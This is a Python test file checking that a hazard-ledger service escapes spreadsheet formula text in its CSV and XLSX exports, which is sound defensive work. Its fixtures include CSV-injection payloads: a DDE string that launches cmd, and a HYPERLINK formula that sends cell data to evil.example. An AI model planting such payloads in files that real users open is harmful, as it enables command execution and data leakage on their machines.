"""Text that looks like a formula stays text in every CSV and XLSX the service writes (CSV injection)."""

from __future__ import annotations

import csv
import io
from typing import Any

import httpx
import openpyxl
from sqlalchemy import text
from sqlalchemy.ext.asyncio import AsyncEngine

from app.spreadsheets import csv_value
from tests.support.hazards import GULOU, create, point
from tests.support.workflow import step

DDE = "=cmd|' /C calc'!A0"
UNIT = "+东昌府区人民政府"
MEASURES = "@SUM(1+1)*cmd|' /C calc'!A0"
DESCRIPTION = '=HYPERLINK("http://evil.example/?x="&A1,"点此")'
ADDRESS = "-2+3 路口"
TABBED = "\t=1+1"


def _formulas(content: bytes) -> list[str]:
    wb = openpyxl.load_workbook(io.BytesIO(content))
    return [
        f"{ws.title}!{cell.coordinate}"
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def _values(content: bytes) -> set[Any]:
    ws = openpyxl.load_workbook(io.BytesIO(content)).active
    assert ws is not None
    return {v for row in ws.iter_rows(values_only=True) for v in row}


def _csv_values(content: bytes) -> set[str]:
    return {v for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")) for v in row}


async def _claimed_hazard(client: httpx.AsyncClient) -> dict[str, Any]:
    h = await create(client, "hazards", point(GULOU, description=DESCRIPTION, address=ADDRESS))
    claim = {"action": "claim", "name": DDE, "post": "副区长", "unit": UNIT}
    await step(client, h["id"], claim)
    await step(client, h["id"], {"action": "start", "measures": MEASURES, "interim_measures": TABBED})
    return h


def test_csv_value_marks_only_text_that_starts_a_formula() -> None:
    for dangerous in ("=1+1", "+1", "-1", "@A1", "\tx", "\rx"):
        assert csv_value(dangerous) == "'" + dangerous
    for harmless in ("东昌府区", "K516+600", "1-2", "", "a=b"):
        assert csv_value(harmless) == harmless
    # Numbers are numbers: a negative chainage or longitude is written as it is.
    assert csv_value(-12.5) == -12.5 and csv_value(-3) == -3


async def test_ledger_xlsx_and_csv_keep_formulas_as_text(client: httpx.AsyncClient) -> None:
    await _claimed_hazard(client)
    xlsx = await client.get("/api/v1/ledger", params={"format": "xlsx"})
    assert xlsx.status_code == 200
    assert _formulas(xlsx.content) == []
    assert {DDE, UNIT, MEASURES} <= _values(xlsx.content)  # the text intact, as string cells
    r = await client.get("/api/v1/ledger", params={"format": "csv"})
    assert r.status_code == 200
    assert {"'" + DDE, "'" + UNIT, "'" + MEASURES} <= _csv_values(r.content)
    assert not {DDE, UNIT, MEASURES} & _csv_values(r.content)


async def test_export_xlsx_and_csv_keep_formulas_as_text(client: httpx.AsyncClient) -> None:
    await _claimed_hazard(client)
    xlsx = await client.get("/api/v1/export", params={"format": "xlsx"})
    assert xlsx.status_code == 200
    assert _formulas(xlsx.content) == []
    values = _values(xlsx.content)
    assert {DESCRIPTION, ADDRESS} <= values
    r = await client.get("/api/v1/export", params={"format": "csv"})
    assert r.status_code == 200
    table = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"), newline="")))
    row = dict(zip(table[0], table[1], strict=True))
    assert row["description"] == "'" + DESCRIPTION and row["address"] == "'" + ADDRESS
    # Numeric columns are untouched; a negative number would stay a number.
    assert float(row["longitude"]) == GULOU[0] and not row["id"].startswith("'")


async def test_import_report_csv_keeps_formulas_as_text(
    client: httpx.AsyncClient, engine: AsyncEngine
) -> None:
    async with engine.begin() as conn:
        job_id = (
            await conn.execute(
                text(
                    "INSERT INTO import_jobs (kind, file_name, format, options, status, report)"
                    " VALUES ('hazards', 'x.csv', 'csv', '{}', 'succeeded', CAST(:report AS jsonb))"
                    " RETURNING id"
                ),
                {"report": '[{"row": 1, "field": "=A1", "reason": "-1 is not a grade"}]'},
            )
        ).scalar_one()
    r = await client.get(f"/api/v1/imports/{job_id}/report", params={"format": "csv"})
    assert r.status_code == 200
    table = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"), newline="")))
    assert table[1] == ["1", "'=A1", "'-1 is not a grade"]
